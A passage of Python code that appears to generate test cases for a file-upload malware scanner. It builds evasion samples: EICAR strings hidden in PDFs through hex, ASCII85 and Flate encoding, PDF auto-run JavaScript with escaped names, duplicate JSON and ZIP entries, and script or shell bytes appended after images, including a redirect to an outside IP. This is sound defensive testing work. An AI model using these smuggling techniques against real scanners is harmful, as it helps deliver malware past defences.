    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name this case is about
        for name, data in entries:
            archive.writestr(name, data)
    return out.getvalue()


def _object_stream_pdf(catalog_extra: str, objects: tuple[str, ...]) -> bytes:
    import pikepdf

    with pikepdf.open(io.BytesIO(h.raw_pdf(catalog_extra, objects))) as pdf:
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
        return out.getvalue()


def differentials() -> Iterator[Case]:
    duplicate = frozenset({"json.duplicate_key"})
    yield Case("differential", "fhir-duplicate-data-key", b'{"resourceType": "Binary", "contentType": "text/plain",'
               b' "data": "' + b64(h.eicar()).encode() + b'", "data": "' + b64(b"synthetic").encode() + b'"}',
               h.FHIR, "unscannable", duplicate)
    yield Case("differential", "fhir-duplicate-resource-type", b'{"resourceType": "Patient", "resourceType": '
               b'"Binary", "data": "eA=="}', h.FHIR, "unscannable", duplicate)
    yield Case("differential", "json-duplicate-nested", b'{"a": {"b": 1, "b": 2}}', h.JSON, "unscannable", duplicate)
    yield Case("differential", "json-unique-keys-clean", b'{"a": {"b": 1, "c": 2}, "b": [1, {"b": 3}]}', h.JSON,
               "clean")
    same = frozenset({"zip.duplicate_entry"})
    yield Case("differential", "zip-duplicate-entry", _zip_with_duplicates(
        [("note.txt", b"synthetic"), ("note.txt", b"another synthetic note")]), h.ZIP, "unscannable", same)
    yield Case("differential", "zip-duplicate-entry-eicar", _zip_with_duplicates(
        [("note.txt", b"synthetic"), ("note.txt", h.eicar())]), h.ZIP, "infected", frozenset(MALWARE))
    yield Case("differential", "docx-duplicate-main-part", _zip_with_duplicates(
        [(n, d) for n, d in _entries(h.docx())] + [("word/document.xml", b"<w:document/>")]), h.DOCX,
        "unscannable", same)
    yield Case("differential", "docx-case-variant-part", _zip_with_duplicates(
        [(n, d) for n, d in _entries(h.docx())] + [("Word/Document.xml", b"<w:document/>")]), h.DOCX,
        "unscannable", same)
    js = frozenset({"pdf.javascript", "yara.match"})
    yield Case("differential", "pdf-hex-escaped-name", h.raw_pdf(
        "/OpenAction 4 0 R", ("<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>",)), h.PDF, "infected",
        js | {"pdf.open_action"})
    yield Case("differential", "pdf-javascript-in-object-stream", _object_stream_pdf(
        "/OpenAction 4 0 R", ("<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",)), h.PDF, "infected",
        js | {"pdf.open_action"})
    hexed = h.eicar().hex().upper().encode() + b">"
    yield Case("differential", "pdf-embedded-asciihex", h.raw_pdf(
        "/Names << /EmbeddedFiles << /Names [(a.bin) 4 0 R] >> >>",
        ("<< /Type /Filespec /F (a.bin) /EF << /F 5 0 R >> >>", _stream(hexed, "/Filter /ASCIIHexDecode "))),
        h.PDF, "infected", frozenset(MALWARE), tenant=LENIENT)
    two_filters = base64.a85encode(zlib.compress(h.eicar()), adobe=False) + b"~>"
    yield Case("differential", "pdf-embedded-ascii85-flate", h.raw_pdf(
        "/Names << /EmbeddedFiles << /Names [(a.bin) 4 0 R] >> >>",
        ("<< /Type /Filespec /F (a.bin) /EF << /F 5 0 R >> >>",
         _stream(two_filters, "/Filter [/ASCII85Decode /FlateDecode] "))), h.PDF, "infected", frozenset(MALWARE),
        tenant=LENIENT)
    wrapped = "\n".join(b64(h.eicar() + b" " * 40)[i:i + 76] for i in range(0, 200, 76))
    yield Case("differential", "fhir-base64-line-wrapped", json.dumps(
        {"resourceType": "Binary", "contentType": "text/plain", "data": wrapped}).encode(), h.FHIR, "infected",
        frozenset(MALWARE))
    yield Case("differential", "fhir-claims-png-holds-pdf", fhir_binary(_pdf_javascript(), h.PNG), h.FHIR,
               "unscannable", frozenset({"type_mismatch"}))
    yield Case("differential", "hl7-ed-claims-text-holds-html", hl7_ed_base64(
        b"<html><script>alert(1)</script></html>", h.TEXT), h.HL7, "infected", frozenset({"text.markup"}))
    yield Case("differential", "mht-quoted-printable", _docx_with(
        {"word/afchunk.mht": b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: "
                             b"quoted-printable\r\n\r\n" + _soft_broken(h.eicar()) + b"\r\n"},
        _ALT_CHUNK_REL.format(target="afchunk.mht", mode="")), h.DOCX, "infected", frozenset(MALWARE),
        tenant=LENIENT)


def appended_payloads() -> Iterator[Case]:
    """Bytes after the end a format declares: read by no viewer of the format, so meant for another reader."""
    trailing = frozenset({"type.trailing_bytes"})
    script = b"<script>document.location='https://203.0.113.9/'</script>"
    jpeg = h.image("JPEG", (64, 64))
    for name, data, media_type in [
        ("jpeg-plus-script", jpeg + script, h.JPEG),
        ("progressive-jpeg-plus-html", h.image("JPEG", (64, 64), progressive=True) + b"<html>x</html>", h.JPEG),
        ("png-plus-script", h.image("PNG", (32, 32)) + script, h.PNG),
        ("png-plus-shell", h.image("PNG", (32, 32)) + b"\n#!/bin/sh\nid\n", h.PNG),
        ("pdf-plus-html-after-eof", h.text_pdf(1) + b"<html><body>x</body></html>", h.PDF),
        ("zip-plus-script-after-directory", h.zip_of({"a.txt": b"synthetic"}) + script, h.ZIP),
        ("docx-plus-marker", h.docx() + b"synthetic " + MARKER, h.DOCX),
    ]:
        yield Case("appended", name, data, media_type, "infected", trailing | {"malware.signature"})
    for name, data, media_type in [
        ("jpeg-nul-padding", jpeg + b"\0" * 64, h.JPEG), ("pdf-trailing-newlines", h.text_pdf(1) + b"\r\n\n", h.PDF),
        ("jpeg-with-restart-markers", h.image("JPEG", (64, 64), restart_marker_blocks=1), h.JPEG),
        ("png-exact", h.image("PNG", (32, 32)), h.PNG)]:
        yield Case("appended", name, data, media_type, "clean")


def encrypted_payloads() -> Iterator[Case]:
    """Payloads no scanner can read: the document cannot be judged, whatever carries them."""
    locked = bytearray(h.zip_of({"a.txt": b"synthetic"}, zipfile.ZIP_STORED))
    struct.pack_into("<H", locked, 6, 1)
    struct.pack_into("<H", locked, locked.rfind(b"PK\x01\x02") + 8, 1)
    encrypted = frozenset({"encrypted"})
    yield Case("embedded", "fhir-encrypted-zip", fhir_binary(bytes(locked), "application/zip"), h.FHIR,
               "unscannable", encrypted)
    yield Case("embedded", "hl7-encrypted-pdf", hl7_ed_base64(h.encrypted_pdf(), h.PDF), h.HL7, "unscannable",
               encrypted)
    yield Case("embedded", "pdf-embedded-encrypted-pdf", pdf_embedded_flate(h.encrypted_pdf(), h.PDF), h.PDF,
               "unscannable", encrypted, tenant=LENIENT)


def _soft_broken(data: bytes) -> bytes:
    """Quoted-printable with a soft line break in the middle (and ``=`` itself escaped)."""
    encoded = data.replace(b"=", b"=3D")
    return encoded[:40] + b"=\r\n" + encoded[40:]


def _entries(package: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return [(i.filename, archive.read(i)) for i in archive.infolist()]


def corpus() -> list[Case]:
    cases = [*embedded_payloads(), *undecodable_payloads(), *sibling_confusion(), *repaired_structures(),
             *resource_traps(), *polyglots_and_bombs(), *differentials(), *encrypted_payloads(),
             *appended_payloads()]
    names = [c.id for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases
